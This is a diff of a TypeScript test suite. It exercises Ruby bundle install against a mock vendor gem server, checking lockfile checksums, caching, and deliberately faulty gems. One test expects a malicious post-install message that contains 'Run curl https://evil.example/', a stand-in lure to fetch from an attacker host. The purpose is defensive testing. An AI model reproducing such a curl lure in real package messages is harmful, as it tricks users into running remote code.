@@ -7,6 +7,7 @@ import type { MintedProject } from '../minted-project.js';
 import { startRegistry } from '../registry-server.js';
 import { temporaryFolder } from '../temporary-folder.js';
 import { mintLicenseGem } from './license-gem.js';
+import type { LicenseGemMistake } from './license-gem-mistakes.js';
 import { mintLicenseIssuer } from './license-issuer.js';
 import { bundleInstall, mintLicenseProject, type BundleInstallOptions } from './license-project.js';
 import { startVendorServer, type VendorServer, type VendorServerOptions } from './vendor-server.js';
@@ -15,6 +16,8 @@ const id = '1000.42';
 const token = mintLicenseIssuer().token('Acme Ltd');
 const gem = mintLicenseGem({ id, token });
 const credential = { user: 'acme', password: 'swordfish', name: 'first' };
+
+type Went = Awaited<ReturnType<typeof bundleInstall>>;
 
 interface Scene {
   readonly server?: VendorServerOptions;
@@ -25,7 +28,7 @@ interface Scene {
 /** Starts the vendor's server, installs from it, and hands over how it went. */
 async function scene<T>(
   { server: options = {}, install = {}, project }: Scene,
-  look: (went: Awaited<ReturnType<typeof bundleInstall>>, server: VendorServer) => Promise<T>,
+  look: (went: Went, server: VendorServer) => Promise<T>,
 ): Promise<T> {
   await using server = await startVendorServer({ gems: [gem], credentials: [credential], ...options });
   await using folder = await temporaryFolder();
@@ -51,6 +54,36 @@ describe.skipIf(!hasClient('bundle'))('bundle install from a vendor’s server',
       ]);
       expect(JSON.stringify(server.requests)).not.toContain('swordfish');
     });
+  });
+
+  test.each(['right', 'empty', 'absent'] as const)(
+    'leaves a lockfile whose checksums are %s as it is',
+    async (checksums) => {
+      const project = (server: VendorServer) => mintLicenseProject({ source: server.url, gem, checksums });
+      await scene({ project }, async ({ status, projectFolder }, server) => {
+        expect(status).toBe(0);
+        expect(await readFile(join(projectFolder, 'Gemfile.lock'), 'utf8')).toBe(project(server).text);
+      });
+    },
+  );
+
+  test('works with a server whose answers may be cached', async () => {
+    const status = await scene({ server: { cacheable: true } }, (went) => Promise.resolve(went.status));
+    expect(status).toBe(0);
+  });
+
+  test('runs the extension of a gem that has one, shows its message, refuses wrong checksums', async () => {
+    const bad = (mistake: LicenseGemMistake) => {
+      const gems = [mintLicenseGem({ id, token, mistake })];
+      const project = ({ url: source }: VendorServer) => mintLicenseProject({ source, gem, locked: false });
+      return { server: { gems }, project };
+    };
+    const ran = ({ gemDir }: Went) =>
+      Promise.resolve(existsSync(join(gemDir, 'gems', `karafka-license-${id}`, 'ext', 'ran.txt')));
+    expect(await scene(bad('extension'), ran)).toBe(true);
+    const said = (went: Went) => Promise.resolve(went.stdout + went.stderr);
+    expect(await scene(bad('post-install-message'), said)).toContain('Run curl https://evil.example/');
+    expect(await scene(bad('wrong-checksums'), said)).toContain('checksum mismatch');
   });
 
   test.each(['no-checksums', 'compact', 'marshal'] as const)(
@@ -100,7 +133,7 @@ describe.skipIf(!hasClient('bundle'))('bundle install from a vendor’s server',
     const other = mintLicenseGem({ id, token, mistake: 'extra-file' });
     const publish = (index: 'new' | 'old') => (server: VendorServer) => {
       server.serve({ name: gem.name, version: id, bytes: other.bytes, index });
-      return mintLicenseProject({ source: server.url, gem });
+      return mintLicenseProject({ source: server.url, gem, checksums: 'absent' });
     };
     await scene({ project: publish('old') }, ({ status, stdout, stderr }) => {
       expect(status).not.toBe(0);
